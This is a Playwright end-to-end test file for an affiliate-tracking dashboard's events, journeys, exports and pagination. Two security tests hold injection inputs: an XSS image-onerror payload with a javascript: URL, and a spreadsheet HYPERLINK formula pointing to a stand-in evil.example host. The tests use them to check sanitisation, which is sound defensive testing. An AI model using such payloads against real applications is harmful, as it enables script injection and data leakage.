import { randomUUID } from 'node:crypto';
import type { APIRequestContext } from '@playwright/test';
import { expect, test } from './fixtures';
import { main } from './support';

const PROGRAM = 'prg_demo';
const authorization = `Bearer ${process.env.SVC_API_KEY}`;
const newCustomer = (suffix = '') => `user_${randomUUID()}${suffix}`;
const eventsOf = (customer: string) => `/dashboard/events?customer=${encodeURIComponent(customer)}`;

async function click(request: APIRequestContext, partner = 'ada'): Promise<string> {
  const affiliate_url = `https://shop.example/?aff=${partner}`;
  const answer = await request.post('/api/v1/track/click', { data: { affiliate_url, program_id: PROGRAM } });
  expect(answer.status()).toBe(200);
  return (await answer.json()).click_id;
}

async function lead(request: APIRequestContext, customer_key: string, more: object = {}): Promise<string> {
  const data = { customer_key, ...more };
  const answer = await request.post('/api/v1/track/lead', { data, headers: { authorization } });
  expect(answer.status()).toBe(200);
  return (await answer.json()).lead_id;
}

async function sale(request: APIRequestContext, customer_key: string, more: object = {}): Promise<void> {
  const data = { customer_key, amount_cents: 1900, transaction_id: `in_${randomUUID()}`, ...more };
  const answer = await request.post('/api/v1/track/sale', { data, headers: { authorization } });
  expect(answer.status()).toBe(200);
}

test('clicks, leads and sales appear under the program’s tracking events as they happen', async ({ page, request }) => {
  const customer = newCustomer();
  await page.goto(eventsOf(customer));
  await expect(main(page).getByText('No event matches')).toBeVisible();

  await lead(request, customer, { click_id: await click(request) });
  await sale(request, customer);

  const table = page.getByRole('table');
  for (const kind of ['Click', 'Lead', 'Sale']) await expect(table.getByText(kind, { exact: true })).toBeVisible();
  await expect(table.getByText('$19.00')).toBeVisible();
  await expect(page.getByRole('status').filter({ hasText: /new events?$/ })).toBeVisible();
});

test('the pause button stops the live updates, and resumes them', async ({ page }) => {
  await page.clock.install();
  await page.goto('/dashboard/events');
  const button = page.getByRole('button', { name: /^(Live|Paused)/ });
  const isRefresh = (url: string) => url.includes('_rsc=');

  await expect(button).toHaveAttribute('aria-pressed', 'false');
  const refreshed = page.waitForRequest((sent) => isRefresh(sent.url()));
  await page.clock.runFor(3_000);
  await refreshed;

  await button.click();
  await expect(button).toHaveAttribute('aria-pressed', 'true');
  await page.waitForLoadState('networkidle');
  const sent: string[] = [];
  page.on('request', (request) => sent.push(request.url()));
  await page.clock.runFor(30_000);
  expect(sent.filter(isRefresh)).toEqual([]);

  await button.click();
  const resumed = page.waitForRequest((request) => isRefresh(request.url()));
  await page.clock.runFor(3_000);
  await resumed;
});

test('a journey is a thread whose unlit nodes carry their reason', async ({ page, request }) => {
  const clickId = await click(request, 'grace');
  await page.goto(`/dashboard/customers/${clickId}`);
  const thread = page.getByRole('list', { name: 'Journey, oldest first' });
  await expect(thread).toMatchAriaSnapshot(`
    - list "Journey, oldest first":
      - listitem:
        - text: Click
        - time: just now
        - text: /\\d+:\\d+:\\d+ UTC/
        - code: ${clickId}
        - group: Stored record of the click
      - listitem:
        - text: Lead
        - paragraph: Nobody has signed up with this click yet.
      - listitem:
        - text: Sale
        - paragraph: No payment yet.
  `);

  const customer = newCustomer();
  await lead(request, customer, { click_id: clickId, email: `${customer}@example.com` });
  await sale(request, customer, { currency: 'jpy', amount_cents: 2800 });
  await page.goto(eventsOf(customer));
  await page.getByRole('link', { name: customer }).first().click();
  await expect(page).toHaveTitle('Journey · svc dashboard');
  await expect(thread.getByText('Sale ¥2,800')).toBeVisible();
  await expect(thread.getByText('No payment yet.')).toBeHidden();

  const record = thread.getByText(/^Stored record of the lead/);
  await record.focus();
  await page.keyboard.press('Enter');
  await expect(thread.getByText(`"email": "${customer}@example.com"`)).toBeVisible();
});

test('what strangers wrote is shown as text', async ({ page, request }) => {
  const attack = '<img src=x onerror="document.title=\'owned\'">';
  const affiliate_url = `https://shop.example/?aff=ada&x=${attack}`;
  const answer = await request.post('/api/v1/track/click', {
    data: {
      affiliate_url,
      program_id: PROGRAM,
      page_url: `https://shop.example/${attack}`,
      referrer_url: 'javascript:1',
    },
  });
  const clickId = (await answer.json()).click_id ?? (await click(request));
  const customer = newCustomer(attack);
  const leadId = await lead(request, customer, { click_id: clickId });
  for (const path of [eventsOf(customer), '/dashboard/customers', `/dashboard/customers/${leadId}`]) {
    await page.goto(path);
    await expect(main(page).getByText(customer).first()).toBeVisible();
    await expect(page.locator('img[src="x"]')).toHaveCount(0);
    await expect(page.locator('a[href^="javascript:"]')).toHaveCount(0);
  }
});

test('an export is safe for spreadsheets, and complete', async ({ request }) => {
  const key = randomUUID();
  const customer = `=HYPERLINK("https://evil.example/${key}")`;
  await lead(request, customer, { click_id: await click(request) });
  const params = { customer, kind: 'lead' };

  const csv = await request.get('/dashboard/events/export', { params: { ...params, format: 'csv' } });
  expect(csv.headers()['content-disposition']).toContain(`${PROGRAM}-events.csv`);
  expect(await csv.text()).toContain(`"'=HYPERLINK(""https://evil.example/${key}"")"`);

  const json = await request.get('/dashboard/events/export', { params: { ...params, format: 'json' } });
  expect(await json.json()).toEqual([expect.objectContaining({ kind: 'lead', customer_key: customer, test: false })]);
});

test('test events are marked, and outside of the totals', async ({ page, request }) => {
  const customer = newCustomer();
  await lead(request, customer, { additional_data: { test_mode: true, program_id: PROGRAM } });
  await page.goto(`${eventsOf(customer)}&mode=test`);
  await expect(page.getByRole('row', { name: /Lead Test/ })).toBeVisible();
  await page.goto(`${eventsOf(customer)}&mode=live`);
  await expect(main(page).getByText('No event matches')).toBeVisible();
});

test('pages of events neither repeat nor skip one', async ({ page, request }) => {
  const customer = newCustomer();
  await lead(request, customer, { click_id: await click(request) });
  for (let index = 0; index < 55; index++) await sale(request, customer, { transaction_id: `${customer}-${index}` });
  const transactions = page.getByRole('cell').filter({ hasText: `${customer}-` });

  await page.goto(`${eventsOf(customer)}&kind=sale`);
  await expect(transactions).toHaveCount(50);
  const newest = await transactions.allInnerTexts();
  await page.getByRole('link', { name: 'Older' }).click();
  await expect(transactions).toHaveCount(5);
  const all = [...newest, ...(await transactions.allInnerTexts())].map((text) => text.split('\n')[0]);
  expect(new Set(all).size).toBe(55);
});
